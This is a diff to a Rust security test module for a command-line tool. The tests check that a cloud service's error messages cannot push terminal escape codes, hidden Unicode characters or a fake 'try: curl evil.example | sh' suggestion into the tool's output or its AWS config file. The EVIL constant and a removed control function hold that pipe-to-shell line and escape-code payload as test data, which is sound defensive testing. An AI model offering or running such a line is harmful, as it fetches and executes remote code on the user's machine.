@@ -2,8 +2,9 @@
 //! and no line of it looks like a line of daypass's own.
 
 use super::super::{
-    attack::{Attack, Kind, Verdict},
-    victim::VictimHome,
+    attack::{Attack, Kind, Verdict, through},
+    victim::{Victim, VictimHome},
+    weak::Weakness,
 };
 use crate::clean;
 use daypass_simulator::World;
@@ -59,32 +60,35 @@ const REFUSED: &[(&str, &str)] = &[
 const EVIL: &str = "no\\u001b[2J\\r\\ntry: curl evil.example | sh\\u202e\\u009b31m\\u200b";
 
 pub(super) fn kind() -> Kind {
-    let shown = SHOWN.iter().map(|line| Attack::new(*line, move || shown(line)));
+    let shown = SHOWN
+        .iter()
+        .map(|line| Attack::new(*line, Weakness::PrintsReplies, move |victim| shown(victim, line)));
     let mut attacks: Vec<_> = shown.collect();
     for (operation, line) in REFUSED {
         for form in ["text", "json"] {
-            attacks.push(Attack::new(format!("{operation} refuses {line} -o {form}"), move || {
-                refused(operation, line, form)
+            let name = format!("{operation} refuses {line} -o {form}");
+            attacks.push(Attack::new(name, Weakness::PrintsReplies, move |victim| {
+                refused(victim, operation, line, form)
             }));
         }
     }
-    Kind { name: "words", control, attacks, lawful: Vec::new() }
+    Kind { name: "words", attacks, lawful: Vec::new() }
 }
 
-fn shown(line: &str) -> Verdict {
+fn shown(victim: Victim, line: &str) -> Verdict {
     let world = World::from_toml(WORLD).map_err(|error| error.to_string())?;
     let scene = VictimHome::of(world)?.with_token(false)?;
-    let seen = scene.line(line)?;
+    let seen = victim.line(&scene, line)?;
     let layout = if line.ends_with("-o text") { "\t" } else { "" };
-    judge(&seen.stdout, &seen.stderr, layout).map_err(|reason| format!("{reason}\n{:?}", seen.text()))?;
+    judge(&seen.stdout, &seen.stderr, layout).map_err(|failure| failure.with(&seen))?;
     let config = std::fs::read_to_string(scene.home().join(".aws/config")).unwrap_or_default();
     match clean::foreign(&config, "") {
-        Some(c) => Err(format!("U+{:04X} in the config", c as u32)),
+        Some(c) => through(format!("U+{:04X} in the config", c as u32)),
         None => Ok(()),
     }
 }
 
-fn refused(operation: &str, line: &str, form: &str) -> Verdict {
+fn refused(victim: Victim, operation: &str, line: &str, form: &str) -> Verdict {
     let scene = VictimHome::signed_in(false)?;
     scene.fault(&format!(
         r#"{operation} answer={{"status": 403, "json": {{"__type": "AccessDeniedException", "message": "{EVIL}", "error": "access_denied", "error_description": "{EVIL}"}}}} always"#
@@ -95,25 +99,16 @@ fn refused(operation: &str, line: &str, form: &str) -> Verdict {
         None => (words, Vec::new()),
     };
     let form = if form == "json" { vec!["-o", "json"] } else { Vec::new() };
-    let seen = scene.run(&[words, form, with_form].concat())?;
-    if seen.hung || seen.stderr.contains("panicked") {
-        return Err(seen.text());
-    }
-    judge(&seen.stdout, &seen.stderr, "").map_err(|reason| format!("{reason}\n{:?}", seen.text()))
+    let seen = victim.run(&scene, &[words, form, with_form].concat())?;
+    seen.ended()?;
+    judge(&seen.stdout, &seen.stderr, "").map_err(|failure| failure.with(&seen))
 }
 
 /// Clean, and no line of the service's passes for one of daypass's.
 fn judge(stdout: &str, stderr: &str, layout: &str) -> Verdict {
     if let Some(c) = clean::foreign(stdout, layout).or_else(|| clean::foreign(stderr, "")) {
-        return Err(format!("U+{:04X} comes out", c as u32));
+        return through(format!("U+{:04X} comes out", c as u32));
     }
     let forged = stdout.lines().chain(stderr.lines()).find(|line| line.trim_start().starts_with("try: curl"));
-    forged.map_or(Ok(()), |line| Err(format!("{line:?} looks like a remedy")))
-}
-
-/// A program that says what the service said.
-fn control() -> Verdict {
-    let dirty = judge("", "error: no\u{1b}[2J\n", "").is_err();
-    let forged = judge("", "error: no\ntry: curl evil.example | sh\n", "");
-    if dirty { forged } else { Ok(()) }
+    forged.map_or(Ok(()), |line| through(format!("{line:?} looks like a remedy")))
 }
